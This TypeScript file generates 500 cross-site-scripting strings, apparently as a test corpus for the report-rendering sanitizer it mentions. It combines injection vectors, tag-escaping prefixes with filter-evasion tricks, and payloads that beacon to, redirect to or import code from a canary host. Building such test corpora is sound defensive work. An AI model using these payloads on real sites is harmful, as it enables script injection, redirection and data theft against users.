/** What a string that gets into a page as markup may do: call home, or say that it ran. */
const DEEDS = [
  "globalThis.ran=1",
  "fetch('https://canary.example.org/f')",
  "new Image().src='https://canary.example.org/i'",
  "top.location='https://canary.example.org/t'",
  "import('https://canary.example.org/m.js')",
];

/** Ways of getting there: `@` stands for the deed, and `~` for an address that is asked for without any script. */
const WAYS = [
  "<script>@</script>",
  '<img src=x onerror="@">',
  '<svg onload="@">',
  "<svg><script>@</script></svg>",
  '<body onload="@">',
  '<details open ontoggle="@">',
  '<video><source onerror="@"></video>',
  '<input autofocus onfocus="@">',
  '<iframe srcdoc="<script>@</script>"></iframe>',
  '<iframe src="javascript:@"></iframe>',
  '<a href="javascript:@" autofocus onfocus="@">x</a>',
  '<math><mtext><mglyph><style><img src=x onerror="@"></style></mglyph></mtext></math>',
  '<img src="~"><link rel=stylesheet href="~"><script src="~"></script>',
  '<meta http-equiv=refresh content="0;url=~"><base href="~"><form action="~"><button autofocus>',
  '<style>@import \'~\';*{background:url(~)}</style><object data="~"></object><embed src="~">',
  "<noscript><p title=\"</noscript><img src=x onerror='@'>\"></noscript>",
  '<template><img src=x onerror="@"></template><select><template><script>@</script>',
  '<svg><animate onbegin="@" attributeName=x dur=1s><image href="~"></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>@</script>"></iframe></foreignObject></svg>',
  '<x contenteditable tabindex=1 autofocus onfocus="@"></x>',
];

/** What a string has to break out of first, in the places where text of a report stands. */
const ESCAPES = [
  (way: string) => way,
  (way: string) => `"> ' >${way}`,
  (way: string) => `</title></style></script></textarea></main>${way}`,
  (way: string) => `--> ]]> ${way.replace(/<(\w+)/g, "<$1\n")}`,
  (way: string) =>
    way.replaceAll("<s", "<\u017F").replaceAll("<i", "<I").replaceAll("<b", "<B").replaceAll(" on", "\u000Con"),
];

/** Five hundred strings, each of them another way to make a page run or load something. */
export const SCRIPTED: readonly string[] = WAYS.flatMap((way, at) =>
  ESCAPES.flatMap((broken) =>
    DEEDS.map((deed, number) =>
      broken(way.replaceAll("@", deed).replaceAll("~", `https://canary.example.org/${at}-${number}`)),
    ),
  ),
);
